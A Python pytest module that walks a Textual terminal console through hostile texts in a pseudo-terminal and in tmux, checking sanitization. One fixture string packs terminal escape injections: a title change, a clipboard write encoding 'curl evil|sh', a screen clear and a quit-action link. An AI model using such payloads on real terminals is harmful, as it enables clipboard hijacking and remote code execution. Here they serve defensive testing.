"""Row 43: hostile texts in every field, on every screen and in every dialog, in a real terminal."""

from __future__ import annotations

import importlib
import json
import os
import pkgutil
import shutil
import subprocess
from typing import TYPE_CHECKING, Any

import pytest
from textual.screen import Screen

import console.tui
from console.sandbox.faults.hostile import TEXTS
from console.text import clean
from tests.sandbox_server import running_sandbox
from tests.terminal.pty_program import PtyProgram
from tests.terminal.pty_screen import MARK
from tests.terminal.test_hostile_text import HARMFUL, OWN_SEQUENCES

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

SIZE = (120, 40)
MINUTES = 3
LONG = "word " * 40_000
REFUSAL = (
    "[/api/v1] \x1b]0;evil\x1b\\ \x1b]52;c;Y3VybCBldmlsfHNo\x1b\\ \x9b2J [@click=app.quit]no[/]"
)


@pytest.fixture(scope="module")
def walk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Walk]:
    folder = tmp_path_factory.mktemp("walk")
    with running_sandbox(history=60, live=4, calls_per_minute=6) as sandbox:
        with sandbox.api() as api:
            call = api.get("/calls", params={"status": "completed"}).json()["items"][0]
        long = {"path": f"/v1/calls/{call['id']}", "fields": ["content", "summary"], "text": LONG}
        sandbox.fault("hostile", method="GET", **long)
        sandbox.fault("hostile", method="GET")
        for method in ("POST", "PATCH", "DELETE"):
            sandbox.fault("status", method=method, status=422, text=REFUSAL)
        homes = dict.fromkeys(("HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"), str(folder))
        # In GNU screen nothing is copied: what reaches the terminal are texts on the screen alone.
        environ = {**homes, "STY": "1"}
        with PtyProgram(
            "hostile_walk.py", sandbox.url, str(folder), environ=environ, size=SIZE
        ) as program:
            code = program.wait_for_exit(seconds=60 * MINUTES)
            yield Walk(folder, code, program.output, sandbox.requests())


class Walk:
    """What came of it."""

    def __init__(
        self, folder: Path, code: int, output: bytes, requests: list[dict[str, Any]]
    ) -> None:
        told = json.loads((folder / "walk.json").read_text("utf-8"))
        self.folder = folder
        self.code = code
        self.output = output
        self.requests = requests
        self.arrived: bool = told["arrived"]
        self.screens: set[str] = set(told["screens"])
        self.lines: list[str] = told["lines"]
        self.clicked: list[tuple[str, str]] = told["clicked"]


@pytest.mark.timeout(60 * MINUTES)
class TestAWalkThroughHostileTexts:
    def test_ends_where_it_should_and_nothing_fails_on_it(self, walk: Walk) -> None:
        assert [file.read_text() for file in walk.folder.rglob("crash-*")] == []
        assert (walk.code, walk.arrived) == (0, True)

    def test_comes_to_every_screen_and_dialog(self, walk: Walk) -> None:
        assert screens_of_the_console() - walk.screens == set()

    def test_loses_no_text(self, walk: Walk) -> None:
        shown = "\n".join(walk.lines)
        # Joined emoji are drawn one by one: terminals do not agree on the width of the whole.
        visible = [clean(text).replace("\u200d", "").strip()[:14] for text in TEXTS]
        assert [text for text in visible if text not in shown] == []

    def test_shows_nothing_that_is_not_clean(self, walk: Walk) -> None:
        assert [line for line in walk.lines if clean(line) != line] == []

    def test_does_nothing_when_a_text_is_clicked_that_wants_it(self, walk: Walk) -> None:
        assert len(walk.clicked) > 20
        assert walk.arrived, "one of those clicks has ended it"

    def test_sends_the_terminal_nothing_but_the_consoles_own_sequences(self, walk: Walk) -> None:
        rest = OWN_SEQUENCES.sub("", MARK.sub(b"", walk.output).decode())
        assert set(HARMFUL.findall(rest)) == set()

    @pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
    def test_leaves_clipboard_and_title_of_a_real_tmux_alone(
        self, walk: Walk, tmp_path: Path
    ) -> None:
        (tmp_path / "output").write_bytes(walk.output)
        (tmp_path / "config").write_text("set -g set-clipboard on\nset -g allow-rename on\n")
        tmux = ["tmux", "-S", str(tmp_path / "socket"), "-f", str(tmp_path / "config")]
        environ = {"PATH": os.environ["PATH"], "TERM": "xterm-256color", "LC_ALL": "C.UTF-8"}

        def run(*arguments: str) -> str:
            return subprocess.run(
                [*tmux, *arguments], env=environ, capture_output=True, text=True, check=True
            ).stdout.strip()

        wait = "tmux wait-for ready"
        size = ["-x", str(SIZE[0]), "-y", str(SIZE[1])]
        run(
            "new-session",
            "-d",
            *size,
            f"{wait}; cat {tmp_path}/output; tmux wait-for -S shown; cat",
        )
        try:
            before = run("display-message", "-p", "#{pane_title}")
            run("wait-for", "-S", "ready")
            run("wait-for", "shown")
            assert run("display-message", "-p", "#{pane_title}") == before
            assert run("list-buffers") == ""
        finally:
            run("kill-server")


def screens_of_the_console() -> set[str]:
    """The names of all classes of screens of which no other is made."""
    for module in pkgutil.walk_packages(console.tui.__path__, "console.tui."):
        importlib.import_module(module.name)
    found: set[str] = set()
    left: list[type[Any]] = [Screen]
    while left:
        each = left.pop()
        left += (below := each.__subclasses__())
        if not below and each.__module__.startswith("console.tui."):
            found.add(each.__name__)
    return found
